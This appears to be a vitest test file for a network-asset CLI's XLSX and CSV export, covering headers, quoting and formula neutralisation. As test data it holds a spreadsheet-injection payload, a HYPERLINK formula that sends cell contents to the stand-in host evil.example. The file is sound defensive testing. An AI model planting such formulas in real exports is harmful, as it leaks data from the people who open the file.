import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { main } from '../../../src/cli/main.js';
import { openStateDb } from '../../../src/core/database.js';
import { csvCell } from '../../../src/service/assets/export.js';
import { AssetStore } from '../../../src/service/assets/store.js';
import type { DeviceSnapshot, PartSnapshot } from '../../../src/service/assets/types.js';
import { tempDir } from '../../helpers/tmp.js';

/** `noctua assets export` over a state database seeded through the register, read back with exceljs and as CSV text. */

const tmp = tempDir('noctua-assets-export-');
// What a hostile or broken agent may put in entPhysicalName / SerialNum: formulas, quotes, separators.
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const HOSTILE_SERIAL = '+SUM(1,2)';

function part(entity: string, p: Partial<PartSnapshot>): PartSnapshot {
  return { entity, part: 'module', name: '', descr: '', model: '', serial: '', firmware: '', hardware: '', manufacturer: '', ...p };
}

beforeAll(() => {
  // stateDir is relative to the config directory's parent; an absolute one keeps the test inside its temp dir.
  writeFileSync(join(tmp.dir, 'noctua.yaml'), `stateDir: ${join(tmp.dir, 'state')}\nlocale: zh-CN\n`);
  writeFileSync(join(tmp.dir, 'devices.yaml'), [
    'defaults:', '  asset: { owner: 网络组, contract: HT-2026-007 }',
    'devices:',
    '  - { name: "@core-sw1", address: 192.0.2.1, class: switch, asset: { assetTag: "ZC-0001", purchaseDate: 2024-01-15, warrantyEnd: 2027-01-14 } }',
    '  - { name: edge-fw1, address: 192.0.2.2, class: firewall }',
  ].join('\n') + '\n');
  const db = openStateDb(join(tmp.dir, 'state'));
  const snap: DeviceSnapshot = {
    device: '@core-sw1', site: 'default', class: 'switch', vendor: 'cisco', model: 'WS-C3560G-48TS-E', serial: 'FOC1408Z61U', firmware: '12.2(55)SE3',
    hardware: 'V05', sysDescr: 'Cisco IOS', parts: [
      part('1001', { part: 'chassis', name: '1', model: 'WS-C3560G-48TS-E', serial: 'FOC1408Z61U', firmware: '12.2(55)SE3' }),
      part('1058', { part: 'port', name: HOSTILE_NAME, serial: HOSTILE_SERIAL }),
    ],
  };
  new AssetStore(db).observe(snap, new Date('2026-11-03T02:00:00Z'));
  db.close();
});
afterAll(() => tmp.cleanup());

async function noctua(...argv: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '', err = '';
  const w = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => { out += String(chunk); return true; });
  const l = vi.spyOn(console, 'log').mockImplementation((...a: unknown[]) => { out += a.join(' ') + '\n'; });
  const e = vi.spyOn(console, 'error').mockImplementation((...a: unknown[]) => { err += a.join(' ') + '\n'; });
  try { return { code: await main(argv), out, err }; } finally { w.mockRestore(); l.mockRestore(); e.mockRestore(); }
}

describe('noctua assets export', () => {
  it('xlsx opens with exceljs: Chinese headers, a device row then its parts, operator fields, hostile text kept as text', async () => {
    const file = join(tmp.dir, 'assets.xlsx');
    const r = await noctua('assets', 'export', '--format', 'xlsx', '--out', file, '--config', tmp.dir);
    expect(r.err).toBe('');
    expect(r.code).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.getWorksheet('资产')!;
    const values = (n: number) => (ws.getRow(n).values as unknown[]).slice(1);
    expect(values(1).slice(0, 9)).toEqual(['设备', '站点', '类别', '项目', '位置（entPhysicalIndex）', '名称', '厂商', '型号', '序列号']);
    // @core-sw1: device row, chassis, transceiver; edge-fw1 never polled: one row with its inventory facts.
    expect(ws.rowCount).toBe(5);
    expect(values(2).slice(0, 4)).toEqual(['@core-sw1', 'default', 'switch', '整机']);
    expect(values(2)).toContain('ZC-0001');
    expect(values(2)).toContain('网络组');
    expect(values(2)).toContain('2027-01-14');
    const hostile = ws.getRow(4);
    expect(hostile.getCell(6).type).toBe(ExcelJS.ValueType.String);
    expect(hostile.getCell(6).value).toBe(HOSTILE_NAME);
    expect(hostile.getCell(9).value).toBe(HOSTILE_SERIAL);
    expect(values(5).slice(0, 3)).toEqual(['edge-fw1', 'default', 'firewall']);
  });

  it('csv in English: apostrophe before formula starts, RFC 4180 quoting, BOM and CRLF', async () => {
    const r = await noctua('assets', 'export', '--format', 'csv', '--lang', 'en', '--config', tmp.dir);
    expect(r.code).toBe(0);
    expect(r.out.startsWith('\ufeffDevice,Site,Class,Item,')).toBe(true);
    const lines = r.out.slice(1).split('\r\n');
    expect(lines).toHaveLength(6);
    expect(lines[0]).toContain('Warranty end');
    expect(lines[3]).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(lines[3]).toContain(`,"'+SUM(1,2)",`);
    // The device name itself starts with "@": prefixed as well.
    expect(lines[1]!.startsWith(`'@core-sw1,`)).toBe(true);
  });

  it('csvCell leaves ordinary text alone and neutralises every formula start', () => {
    expect(csvCell('FOC1408Z61U')).toBe('FOC1408Z61U');
    expect(csvCell('12.2(55)SE3')).toBe('12.2(55)SE3');
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1']) expect(csvCell(s).replace(/^"/, '').startsWith(`'`)).toBe(true);
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('两行\n文本')).toBe('"两行\n文本"');
  });

  it('refuses a missing or unknown format, and xlsx to standard output, naming the flag', async () => {
    for (const [argv, words] of [[['--format', 'pdf'], '--format'], [[], '--format'], [['--format', 'xlsx', '--out', '-'], '--out -'], [['--format', 'csv', '--lang', 'fr'], '--lang']] as const) {
      const r = await noctua('assets', 'export', ...argv, '--config', tmp.dir);
      expect(r.code).toBe(2);
      expect(r.err).toContain(words);
    }
  });

  it('says where the state database was looked for when there is none', async () => {
    const other = tempDir('noctua-assets-nostate-');
    try {
      writeFileSync(join(other.dir, 'devices.yaml'), 'devices: []\n');
      writeFileSync(join(other.dir, 'noctua.yaml'), `stateDir: ${join(other.dir, 'state')}\n`);
      const r = await noctua('assets', 'export', '--format', 'csv', '--config', other.dir);
      expect(r.code).toBe(1);
      expect(r.err).toContain(join(other.dir, 'state/noctua.db'));
    } finally { other.cleanup(); }
  });
});
